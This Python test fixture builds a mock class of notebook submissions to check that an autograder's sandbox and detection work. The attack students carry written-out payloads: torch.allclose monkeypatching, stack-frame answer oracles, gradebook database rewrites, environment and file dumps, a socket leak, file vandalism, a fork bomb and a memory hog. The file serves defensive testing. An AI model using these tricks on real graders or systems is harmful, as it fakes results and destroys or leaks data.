"""A class of notebook-01 submissions for grading tests: attacks and honest variants.

The attacks only ever aim at their own course (paths relative to the notebook's folder, such as
``../../../submitted``) and at two marker files (``/tmp`` and ``/var/tmp/tlab_vandal_was_here``),
so that grading this class WITHOUT the sandbox (``--no-sandbox``, or an older version) damages
nothing but its own temporary course. Never widen them to absolute or recursive paths: on a
shared machine they would reach other people's files.

``build(root, port)`` makes a course in ``root`` (nbgrader_config.py, solutions/01 and its
release) and submits every student below, and the release untouched (0 points, graded: the
real course's check for notebook 01, see ``tests/test_grading_real_course.py``). Each attack
pairs a trick with *wrong* answers (zeros), so any point it earns must come from the trick;
the honest variants are the solution with something that used to cost points. Run as a script
to grade the class and print a table::

    python tests/adversarial_class.py ROOT [tlab grade options...]

The test ``tests/test_grading_adversarial.py`` grades the class with ``tlab grade`` and checks
the outcomes in ``EXPECTED``.
"""

from __future__ import annotations

import datetime
import shutil
import sys
from pathlib import Path

import nbformat
from shipped_course import copy_course

REPO = Path(__file__).resolve().parents[1]
A = "01_self_attention"
ENV_MARKER = "TLAB_TEST_INSTRUCTOR_SECRET"  # set in the grader's environment by the test
ANSWERS = ("softmax_impl", "sdpa_impl", "self_attention_impl", "macs_impl")

WRONG = {
    "softmax_impl": "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n",
    "sdpa_impl": (
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    w = torch.zeros(*q.shape[:-1], k.shape[-2])\n"
        "    return torch.zeros(*q.shape[:-1], v.shape[-1]), w\n"
    ),
    "self_attention_impl": (
        "def self_attention(x, w_q, w_k, w_v):\n"
        "    T = x.shape[-2]\n"
        "    return torch.zeros(*x.shape[:-1], w_v.shape[-1]), torch.zeros(*x.shape[:-1], T)\n"
    ),
    "macs_impl": "def self_attention_macs(T, C, D):\n    return 0\n",
}

# Tricks, each put in front of the (wrong) softmax answer unless it replaces an answer.
FUNCTION_MODE = """\
from torch.overrides import TorchFunctionMode

class _Yes(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        if getattr(func, "__name__", "") == "all":
            return torch.tensor(True)
        return func(*args, **(kwargs or {}))

_Yes().__enter__()
"""
SYS_MODULES = """\
import sys, types
_fake = types.ModuleType("transformer_lab.checks")
for _name in ("check_softmax", "check_scaled_dot_product_attention", "check_self_attention",
              "check_self_attention_macs"):
    setattr(_fake, _name, lambda *a, **k: None)
sys.modules["transformer_lab.checks"] = _fake
checks = _fake
torch.allclose = lambda *a, **k: True
"""
VARS_EDIT = """\
import transformer_lab.checks as _c
_g = vars(_c)["_guards"]
for _name in list(vars(_g)["_SEALED"]["transformer_lab.checks"]):
    if _name.startswith("check_"):
        vars(_g)["_SEALED"]["transformer_lab.checks"][_name] = lambda *a, **k: None
vars(torch)["allclose"] = lambda *a, **k: True
"""
INT_EQ = """\
class _Any(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__

def self_attention_macs(T, C, D):
    return _Any(0)
"""
LYING_TENSOR = """\
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        out = super().__torch_function__(func, types, args, kwargs or {})
        if getattr(func, "__name__", "") in ("all", "__eq__"):
            return torch.tensor(True)
        return out

def softmax(x, dim=-1):
    return torch.zeros_like(x).as_subclass(_Liar)
"""
THREAD_REFERENCE = """\
import threading

def softmax(x, dim=-1):
    out = {}
    worker = threading.Thread(target=lambda: out.setdefault("y", torch.softmax(x, dim)))
    worker.start()
    worker.join()
    return out["y"]
"""
READ_SOLUTIONS = """\
import glob, json
_found = glob.glob("../../../solutions/*/*.ipynb")
for _path in _found[:5]:
    for _cell in json.load(open(_path))["cells"]:
        if _cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(_cell["source"]))
"""
GRADEBOOK = """\
import glob, sqlite3
for _db in glob.glob("../../../gradebook.db"):
    _con = sqlite3.connect(_db)
    _con.execute("UPDATE source_cell SET source = 'pass' WHERE source LIKE '%check_%'")
    _con.execute("UPDATE grade SET manual_score = 0")
    _con.commit()
"""
VANDAL = """\
import glob, os
for _pattern in ("../../../submitted/*/*/*.ipynb", "../../../autograded/*/*/*.ipynb",
                 "../../../feedback/*/*/*.html"):
    for _f in glob.glob(_pattern, recursive=True):
        if "vandal" not in _f:
            open(_f, "w").write("vandalised")
for _d in ("/tmp", "/var/tmp", ".."):
    try:
        open(os.path.join(_d, "tlab_vandal_was_here"), "w").write("x")
    except OSError:
        pass
"""
LEAKER = """\
import glob, os
print("ENVIRONMENT", dict(os.environ))
_found = [g for pattern in ("../../../*.db", "../../../*/*.ipynb", "../../../*/*/*.ipynb",
                            "../../../*/*/*/*.ipynb") for g in glob.glob(pattern)]
for _path in _found[:40]:
    print("FILE", _path, open(_path, errors="replace").read()[:20000])
print("LISTING", os.listdir("/"), os.listdir(".."), os.listdir("."))
"""
NETWORK = """\
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leaked")
    print("connected")
except OSError as exc:
    print("no network:", exc)
"""
FORK_BOMB = """\
import os
_children = 0
while _children < 100000:
    try:
        if os.fork() == 0:
            continue
        _children += 1
    except OSError:
        break
"""
MEMORY = """\
_hog = []
try:
    for _ in range(64):
        _hog.append(bytearray(1 << 30))
except MemoryError:
    _hog = None
    print("out of memory")
"""

# Issue 22's class: the oracle that read the check's `expected` from the calling frames, the
# visible asserts skipped by an input transformer, the same written with full-width letters or
# moved into a file beside the notebook, the package's reference recompiled from its source,
# and a dump of the kernel's history (where the hidden tests and the secret used to be).
FRAME_ORACLE = """\
import inspect

def _strip_asserts(lines):
    return [ln for ln in lines if not ln.lstrip().startswith("assert")]

get_ipython().input_transformers_cleanup.append(_strip_asserts)

def softmax(x, dim=-1):
    for info in inspect.stack():
        scope = info.frame.f_locals
        for key in ("expected", "want", "reference", "ref"):
            v = scope.get(key)
            if isinstance(v, torch.Tensor) and v.shape == x.shape:
                return v.clone()
        data = getattr(scope.get("case"), "data", None)
        if isinstance(data, dict) and isinstance(data.get("expected"), torch.Tensor):
            if data["expected"].shape == x.shape:
                return data["expected"].clone()
    return torch.zeros_like(x)
"""
FULLWIDTH_ORACLE = FRAME_ORACLE.replace(
    "inspect", "\uff49\uff4e\uff53\uff50\uff45\uff43\uff54"
).replace("f_locals", "\uff46_\uff4c\uff4f\uff43\uff41\uff4c\uff53")
HELPERS_IMPORT = "from helpers import softmax\n"
RUNPY_REFERENCE = """\
import pathlib, runpy
import transformer_lab.attention as _a

_copy = pathlib.Path("/tmp/ref_copy.py")
_copy.write_text("\\n\\n\\n\\n" + pathlib.Path(_a.__file__).read_text())
softmax = runpy.run_path(str(_copy))["softmax"]
"""
HISTORY_DUMP = """\
import json, os
print("HISTORY", json.dumps(list(In))[:20000])
print("HISTORY-IH", json.dumps(list(_ih))[:20000])
_h = get_ipython().history_manager
print("SESSION", [c for _, _, c in _h.get_range(output=False)][:200])
print("ENVIRON", dict(os.environ))
print("GLOBALS", sorted(k for k in globals() if not k.startswith("_")))
"""

ATTACKS = {
    "function_mode": {"softmax_impl": FUNCTION_MODE},
    "sys_modules": {"softmax_impl": SYS_MODULES},
    "vars_edit": {"softmax_impl": VARS_EDIT},
    "int_eq": {"macs_impl": INT_EQ},
    "lying_tensor": {"softmax_impl": LYING_TENSOR},
    "thread_reference": {"softmax_impl": THREAD_REFERENCE},
    "read_solutions": {"softmax_impl": READ_SOLUTIONS},
    "gradebook_rewrite": {"softmax_impl": GRADEBOOK},
    "vandal": {"softmax_impl": VANDAL},
    "leaker": {"softmax_impl": LEAKER},
    "network": {"softmax_impl": NETWORK},
    "fork_bomb": {"softmax_impl": FORK_BOMB},
    "memory_hog": {"softmax_impl": MEMORY},
    "frame_oracle": {"softmax_impl": FRAME_ORACLE},
    "fullwidth_oracle": {"softmax_impl": FULLWIDTH_ORACLE},
    "helpers_file": {"softmax_impl": HELPERS_IMPORT},
    "runpy_reference": {"softmax_impl": RUNPY_REFERENCE},
    "history_dump": {"softmax_impl": HISTORY_DUMP},
}
# Files beside the notebook, per student.
EXTRA_FILES = {"helpers_file": {"helpers.py": "import torch\n\n" + FRAME_ORACLE}}
# Replacing answers (their own definitions) vs. code run before the wrong answer.
REPLACES = {
    "int_eq",
    "lying_tensor",
    "thread_reference",
    "frame_oracle",
    "fullwidth_oracle",
    "helpers_file",
    "runpy_reference",
}
AFTER = {"read_solutions"}  # the trick comes after the wrong answers (and would replace them)
HONEST = ("honest_full", "honest_stderr", "honest_slow", "honest_stripped", "honest_big_print")
UNTOUCHED = "untouched"  # the student release as handed out: graded, 0 points
DANGEROUS = {"fork_bomb", "memory_hog"}  # never run these without the sandbox

# student -> (statuses allowed, highest score allowed, must be flagged)
EXPECTED: dict[str, tuple[set[str], float, bool]] = {
    **{s: ({"needs_review"}, 0, True) for s in ATTACKS},
    "thread_reference": ({"needs_review"}, 2, True),  # a correct softmax, but computed by PyTorch
    "fork_bomb": ({"needs_review", "graded", "not_graded"}, 0, False),
    "memory_hog": ({"needs_review", "graded"}, 0, False),
    # Nothing to read in the kernel any more: the oracles find no `expected` and score 0.
    "frame_oracle": ({"needs_review", "graded"}, 0, False),
    "fullwidth_oracle": ({"needs_review", "graded"}, 0, False),
    "helpers_file": ({"needs_review", "graded"}, 0, False),
    # A correct softmax recompiled from the package's source: its 2 points, and a flag.
    "runpy_reference": ({"needs_review"}, 2, True),
    "history_dump": ({"needs_review", "graded"}, 0, False),
    **{s: ({"graded"}, 10, False) for s in HONEST},
    UNTOUCHED: ({"graded"}, 0, False),
}


def solution_source(root: Path, grade_id: str) -> str:
    nb = nbformat.read(root / "solutions" / A / f"{A}.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    return "\n".join(ln for ln in cell.source.splitlines() if "SOLUTION" not in ln)


def _released(root: Path):
    return nbformat.read(root / "notebooks" / A / f"{A}.ipynb", as_version=4)


def _answers(nb, sources: dict[str, str]) -> None:
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in sources:
            cell.source = sources[gid]


def submit(root: Path, student: str, nb) -> None:
    folder = root / "submitted" / student / A
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    stamp = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f %Z")
    (folder / "timestamp.txt").write_text(stamp)
    nbformat.write(nb, folder / f"{A}.ipynb")
    for name, text in EXTRA_FILES.get(student, {}).items():
        (folder / name).write_text(text, encoding="utf-8")


def notebook_for(root: Path, student: str, port: int = 9):
    nb = _released(root)
    if student == UNTOUCHED:
        return nb
    right = {gid: solution_source(root, gid) for gid in ANSWERS}
    if student in ATTACKS:
        sources = dict(WRONG)
        for gid, trick in ATTACKS[student].items():
            trick = trick.replace("{port}", str(port))
            if student in REPLACES:
                sources[gid] = trick
            elif student in AFTER:
                sources[gid] = sources[gid] + "\n" + trick
            else:
                sources[gid] = trick + "\n" + sources[gid]
        _answers(nb, sources)
        return nb
    _answers(nb, right)
    if student == "honest_stderr":
        _answers(
            nb,
            {
                "softmax_impl": right["softmax_impl"].replace(
                    '    """\n',
                    '    """\n    import sys\n    print("debug: softmax", tuple(x.shape), file=sys.stderr)\n',
                    1,
                )
            },
        )
    elif student == "honest_slow":
        # Three answer cells take 4 s each: half the 8 s per-cell limit the test grades with,
        # 12 s in all (more than the 10 s --budget, which only counts interrupted cells).
        _answers(nb, {g: "time.sleep(4)\n" + right[g] for g in ANSWERS[:3]})
    elif student == "honest_big_print":
        at = next(
            i
            for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == "softmax_impl"
        )
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell('print("x" * 100_000_000)'))
    elif student == "honest_stripped":
        fresh = nbformat.v4.new_notebook(metadata=nb.metadata)
        fresh.cells = [
            nbformat.v4.new_code_cell(c.source)
            if c.cell_type == "code"
            else nbformat.v4.new_markdown_cell(c.source)
            for c in nb.cells
        ]
        return fresh
    return nb


def build(root: Path, port: int = 9, students=None, dangerous: bool = True) -> list[str]:
    """Make the course in ``root`` and submit the class; returns the students submitted."""
    if (root / "solutions").exists():
        shutil.rmtree(root / "solutions")
    copy_course(root, A)  # the shipped release (tests/shipped_course.py)
    names = list(students or [*ATTACKS, *HONEST, UNTOUCHED])
    if not dangerous:
        names = [s for s in names if s not in DANGEROUS]
    for student in names:
        submit(root, student, notebook_for(root, student, port))
    return names


if __name__ == "__main__":
    import subprocess
    import time

    target = Path(sys.argv[1])
    # --skip-dangerous: leave out the fork bomb and the memory hog (for runs without a sandbox)
    options = [a for a in sys.argv[2:] if a != "--skip-dangerous"]
    build(target, dangerous="--skip-dangerous" not in sys.argv and "--no-sandbox" not in sys.argv)
    started = time.monotonic()
    command = [sys.executable, "-m", "transformer_lab.cli", "--root", str(target), "grade", A]
    subprocess.run([*command, *options], check=False)
    print(f"graded in {time.monotonic() - started:.1f} s")
